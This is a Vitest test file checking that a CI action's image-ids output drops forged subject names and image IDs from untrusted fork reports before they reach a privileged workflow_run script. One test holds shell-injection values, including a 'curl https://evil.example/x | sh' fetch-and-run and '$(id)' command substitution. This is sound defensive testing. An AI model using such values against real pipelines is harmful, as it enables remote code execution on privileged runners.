// Step outputs from an untrusted report: in `mode: publish` the report is a fork's bundle, and a
// later step of the privileged workflow_run job may expand `image-ids` into a run script. Only
// subject names an inventory allows and well-formed image IDs reach it.
import { describe, expect, it } from "vitest";
import { imageIds } from "../../src/action/step-outputs.js";
import { makeReport } from "../report/fixtures.js";

const ID = `sha256:${"a".repeat(64)}`;

describe("the image-ids output", () => {
  it("keeps a subject's name and image ID", () => {
    const report = makeReport({ subjects: [{ name: "web", imageId: ID, phases: [] }] });
    expect(imageIds(report)).toEqual({ web: ID });
  });

  it("drops a forged name or ID that could break out of a script the output is expanded into", () => {
    const report = makeReport({
      subjects: [
        { name: "web'; curl https://evil.example/x | sh; echo '", imageId: ID, phases: [] },
        { name: "api", imageId: "sha256:$(curl evil.example)", phases: [] },
        { name: "$(id)", imageId: ID, phases: [] },
        { name: "ok", imageId: ID, phases: [] },
      ],
    });
    expect(imageIds(report)).toEqual({ ok: ID });
  });
});
